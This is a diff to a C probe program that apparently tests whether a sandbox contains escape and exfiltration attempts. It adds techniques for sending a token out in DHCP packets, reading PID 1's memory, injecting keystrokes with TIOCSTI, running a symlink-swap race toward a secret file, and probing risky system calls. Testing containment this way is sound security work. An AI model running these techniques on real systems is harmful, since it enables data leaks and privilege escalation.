@@ -11,6 +11,7 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <ifaddrs.h>
 #include <linux/if_packet.h>
 #include <linux/netfilter/nf_tables.h>
 #include <linux/netfilter/nfnetlink.h>
@@ -25,11 +26,14 @@
 #include <netinet/tcp.h>
 #include <poll.h>
 #include <sched.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
@@ -57,6 +61,18 @@ static int say(int done) {
   if (done) puts("done");
   else printf("%s: %s\n", absent(error) ? "absent" : "refused", strerror(error));
   return 0;
+}
+
+/* The interface by which packets leave: the one that has an IPv4 address. */
+static const char *device(void) {
+  static char found[IF_NAMESIZE] = "eth0";
+  struct ifaddrs *all;
+  if (getifaddrs(&all)) return found;
+  for (struct ifaddrs *one = all; one; one = one->ifa_next)
+    if (one->ifa_addr && one->ifa_addr->sa_family == AF_INET && !(one->ifa_flags & IFF_LOOPBACK))
+      snprintf(found, sizeof found, "%s", one->ifa_name);
+  freeifaddrs(all);
+  return found;
 }
 
 static void resolve(void) {
@@ -106,6 +122,25 @@ static size_t query(unsigned char *bytes, int questions, const char *first_label
   return n + question(bytes + n, whole);
 }
 
+/* A message of a host that has no address yet, with the token in it. */
+static size_t dhcp(unsigned char *bytes) {
+  memset(bytes, 0, 300);
+  memcpy(bytes, "\1\1\6\0\x12\x34\x56\x78", 8);
+  memcpy(bytes + 28, "\2\0\0\0\0\7", 6);
+  memcpy(bytes + 44, token, strlen(token));
+  memcpy(bytes + 236, "\x63\x82\x53\x63\x35\1\1\xff", 8);
+  return 300;
+}
+
+/* The same for IPv6: what is there for everybody? */
+static size_t dhcp6(unsigned char *bytes) {
+  size_t length = strlen(token);
+  memcpy(bytes, "\13\x12\x34\x56\0\1\0\0\0\4", 10);
+  bytes[7] = 2 + length;
+  memcpy(bytes + 10, token, length);
+  return 10 + length;
+}
+
 static int udp(const char *how) {
   unsigned char bytes[4096];
   size_t length = strlen(token);
@@ -122,6 +157,7 @@ static int udp(const char *how) {
   }
   if (!strcmp(how, "from-53")) {
     struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(53)};
+    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
     if (bind(s, (struct sockaddr *)&from, sizeof from)) return say(0);
   }
   if (!strcmp(how, "spoofed")) {
@@ -134,11 +170,24 @@ static int udp(const char *how) {
     unsigned char option[12] = {IPOPT_RR, 11, 4};
     if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, option, sizeof option)) return say(0);
   }
-  if (!strcmp(how, "device") && setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, "eth0", 5)) return say(0);
+  if (!strcmp(how, "device") && setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, device(), strlen(device()))) return say(0);
+  if (!strncmp(how, "dhcp", 4)) {
+    /* From the client's own port, to which answers come, where that is allowed. */
+    struct sockaddr_in from4 = {.sin_family = AF_INET, .sin_port = htons(68)};
+    struct sockaddr_in6 from6 = {.sin6_family = AF_INET6, .sin6_port = htons(546)};
+    int four = to.ss_family == AF_INET;
+    done = bind(s, four ? (void *)&from4 : (void *)&from6, four ? sizeof from4 : sizeof from6) == 0;
+    setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
+    if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, device(), strlen(device()))) return say(0);
+    length = four ? dhcp(bytes) : dhcp6(bytes);
+    if (sendto(s, bytes, length, 0, (void *)&to, to_length) < 0) return say(0);
+    errno = ETIMEDOUT;
+    return say(done && heard_of(s));
+  }
   if (!strcmp(how, "broadcast")) {
     /* By the device, as the network has no way out. */
     if (setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof on)) return say(0);
-    if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, "eth0", 5)) return say(0);
+    if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, device(), strlen(device()))) return say(0);
   }
   if (!strcmp(how, "sendmsg")) return say(sendmsg(s, &message, 0) > 0);
   if (!strcmp(how, "sendmmsg")) {
@@ -179,13 +228,13 @@ static int tcp(const char *how) {
       length += 2 + n;
     }
   }
+  struct timeval limit = {1, 0};
+  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
   if (!strcmp(how, "fastopen") || !strncmp(how, "dns", 3)) {
     /* The data goes with the first segment where the other side allows it. */
     if (sendto(s, bytes, length, MSG_FASTOPEN, (void *)&to, to_length) >= 0) return say(1);
     if (errno != EOPNOTSUPP) return say(0);
   }
-  struct timeval limit = {1, 0};
-  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
   return say(connect(s, (void *)&to, to_length) == 0 && send(s, bytes, length, 0) > 0);
 }
 
@@ -198,6 +247,21 @@ static int ping(void) {
   if (s < 0) s = new_socket(SOCK_RAW, number);
   ((struct sockaddr_in *)&to)->sin_port = 0;
   return say(sendto(s, packet, 8 + strlen(token), 0, (void *)&to, to_length) > 0);
+}
+
+/* Asks routers to say that they are there, and waits for one. */
+static int router_solicitation(void) {
+  unsigned char bytes[1500] = {ND_ROUTER_SOLICIT};
+  struct sockaddr_in6 routers = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex(device())};
+  inet_pton(AF_INET6, "ff02::2", &routers.sin6_addr);
+  int hops = 255, s = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
+  if (s < 0) return say(0);
+  setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
+  if (sendto(s, bytes, 8, 0, (void *)&routers, sizeof routers) < 0) return say(0);
+  errno = ETIMEDOUT;
+  while (heard_of(s))
+    if (recv(s, bytes, sizeof bytes, 0) > 0 && bytes[0] == ND_ROUTER_ADVERT) return say(1);
+  return say(0);
 }
 
 /* A packet of any protocol: first by the protocol's own socket, then by a raw one. */
@@ -223,7 +287,7 @@ static int packet_socket(void) {
   if (s < 0) return say(0);
   unsigned char ip[60] = {0x45, 0, 0, 60, 0, 0, 0, 0, 64, 253};
   memset(all.sll_addr, 0xff, 6);
-  all.sll_ifindex = if_nametoindex("eth0");
+  all.sll_ifindex = if_nametoindex(device());
   memcpy(ip + 16, &((struct sockaddr_in *)&to)->sin_addr, 4);
   memcpy(ip + 20, token, strlen(token));
   return say(sendto(s, ip, sizeof ip, 0, (void *)&all, sizeof all) > 0);
@@ -260,7 +324,7 @@ static int io_uring(void) {
 
 /* Tells everybody on the link a group's address, which is the attacker's to choose. */
 static int join(void) {
-  struct group_req request = {.gr_interface = if_nametoindex("eth0")};
+  struct group_req request = {.gr_interface = if_nametoindex(device())};
   memcpy(&request.gr_group, &to, to_length);
   int level = to.ss_family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6;
   int s = new_socket(SOCK_DGRAM, 0);
@@ -330,6 +394,81 @@ static int steal_descriptor(pid_t target) {
   return say(process >= 0 && syscall(438, process, 0, 0) >= 0);
 }
 
+static int read_memory(pid_t target) {
+  long word;
+  struct iovec here = {&word, sizeof word}, there = {(void *)4096, sizeof word};
+  /* Whoever may read it learns that nothing is there. */
+  return say(process_vm_readv(target, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT);
+}
+
+/* Calls that lead to much of the kernel: which of them does it look at? */
+static int system_calls(void) {
+  static const struct {
+    const char *name;
+    long number;
+  } calls[] = {
+      {"add_key", SYS_add_key}, {"keyctl", SYS_keyctl}, {"request_key", SYS_request_key}, {"mount", SYS_mount},
+      {"umount2", SYS_umount2}, {"pivot_root", SYS_pivot_root}, {"chroot", SYS_chroot}, {"unshare", SYS_unshare},
+      {"setns", SYS_setns}, {"ptrace", SYS_ptrace}, {"process_vm_readv", SYS_process_vm_readv},
+      {"process_vm_writev", SYS_process_vm_writev}, {"pidfd_getfd", 438}, {"kcmp", SYS_kcmp}, {"bpf", SYS_bpf},
+      {"perf_event_open", SYS_perf_event_open}, {"userfaultfd", SYS_userfaultfd}, {"fanotify_init", SYS_fanotify_init},
+      {"open_by_handle_at", SYS_open_by_handle_at}, {"syslog", SYS_syslog}, {"acct", SYS_acct},
+      {"quotactl", SYS_quotactl}, {"quotactl_fd", 443}, {"clone3", 435}, {"io_uring_setup", 425},
+      {"io_uring_enter", 426}, {"io_uring_register", 427}, {"open_tree", 428}, {"move_mount", 429}, {"fsopen", 430},
+      {"fsconfig", 431}, {"fsmount", 432}, {"fspick", 433}, {"mount_setattr", 442}, {"statmount", 457},
+      {"listmount", 458}, {"open_tree_attr", 467}};
+  char open[1024] = "";
+  for (unsigned i = 0; i < sizeof calls / sizeof *calls; i++)
+    /* Nothing that it could do anything with. */
+    if (syscall(calls[i].number, -1, 0, 0, 0, 0, 0) >= 0 || (errno != EPERM && errno != ENOSYS))
+      snprintf(open + strlen(open), sizeof open - strlen(open), " %s", calls[i].name);
+  if (*open) printf("done:%s\n", open);
+  else printf("refused: none but what every program needs\n");
+  return 0;
+}
+
+/* A file of what a program had in memory, which the kernel writes wherever that ends. */
+static int core(void) {
+  struct rlimit limit;
+  getrlimit(RLIMIT_CORE, &limit);
+  limit.rlim_cur = 4096;
+  return say(setrlimit(RLIMIT_CORE, &limit) == 0);
+}
+
+/* Types for whoever sits at the terminal. */
+static int type_into_terminal(void) {
+  int outer = posix_openpt(O_RDWR | O_NOCTTY), status;
+  if (outer < 0 || grantpt(outer) || unlockpt(outer)) return say(0);
+  pid_t child = fork();
+  if (!child) {
+    setsid();
+    int terminal = open(ptsname(outer), O_RDWR);
+    _exit(terminal >= 0 && ioctl(terminal, TIOCSTI, "x") == 0 ? 0 : errno);
+  }
+  waitpid(child, &status, 0);
+  errno = WEXITSTATUS(status);
+  return say(errno == 0);
+}
+
+/* Goes on when the program has ended, and has a file be now a file and now a link to one of the machine's. */
+static int race(const char *path, const char *secret) {
+  char next[4096];
+  snprintf(next, sizeof next, "%s.next", path);
+  for (int i = 1; i < 32; i++) signal(i, SIG_IGN);
+  for (int i = 0; i < 60000; i++) {
+    int file = open(next, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    if (file >= 0) {
+      dprintf(file, "%d\n", i);
+      close(file);
+    }
+    rename(next, path);
+    usleep(500);
+    if (symlink(secret, next) == 0) rename(next, path);
+    usleep(500);
+  }
+  return 0;
+}
+
 static int unix_socket(const char *path) {
   struct sockaddr_un socket_name = {.sun_family = AF_UNIX};
   snprintf(socket_name.sun_path, sizeof socket_name.sun_path, "%s", path);
@@ -356,14 +495,14 @@ static int flood(int packets) {
 }
 
 /* Waits for a stranger who calls, and says whether anything came. */
-static int listen_for(int type) {
+static int listen_for(int type, int limit_ms) {
   struct sockaddr_in6 any = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(port))};
   int s = socket(AF_INET6, type, 0), on = 1;
   setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
   if (bind(s, (void *)&any, sizeof any) || (type == SOCK_STREAM && listen(s, 5))) return say(0);
   struct pollfd one = {.fd = s, .events = POLLIN};
   errno = ETIMEDOUT;
-  return say(poll(&one, 1, 1500) == 1);
+  return say(poll(&one, 1, limit_ms) == 1);
 }
 
 /* Answers the stranger whose packets came before there was a lock, from the port that they came to. */
@@ -406,11 +545,19 @@ int main(int count, char **words) {
   if (!strcmp(technique, "mount")) return say(mount("none", "/mnt", "tmpfs", 0, "") == 0);
   if (!strcmp(technique, "trace-1")) return trace(1);
   if (!strcmp(technique, "descriptor-1")) return steal_descriptor(1);
+  if (!strcmp(technique, "memory-1")) return read_memory(1);
+  if (!strcmp(technique, "router-solicitation")) return router_solicitation();
+  if (!strcmp(technique, "system-calls")) return system_calls();
+  if (!strcmp(technique, "core")) return core();
+  if (!strcmp(technique, "terminal")) return type_into_terminal();
+  if (!strcmp(technique, "race")) return race(getenv("RACE"), getenv("SECRET"));
   if (!strcmp(technique, "unix")) return unix_socket(getenv("UNIX"));
   if (!strcmp(technique, "privileges")) return privileges();
   if (!strcmp(technique, "flood")) return flood(30000);
-  if (!strcmp(technique, "listen-udp")) return listen_for(SOCK_DGRAM);
-  if (!strcmp(technique, "listen-tcp")) return listen_for(SOCK_STREAM);
+  if (!strcmp(technique, "listen-udp")) return listen_for(SOCK_DGRAM, 1500);
+  if (!strcmp(technique, "listen-tcp")) return listen_for(SOCK_STREAM, 1500);
+  if (!strcmp(technique, "wait-udp")) return listen_for(SOCK_DGRAM, 2500);
+  if (!strcmp(technique, "wait-tcp")) return listen_for(SOCK_STREAM, 2500);
   if (!strcmp(technique, "answer")) return answer_the_stranger();
   printf("absent: no technique '%s'\n", technique);
   return 2;
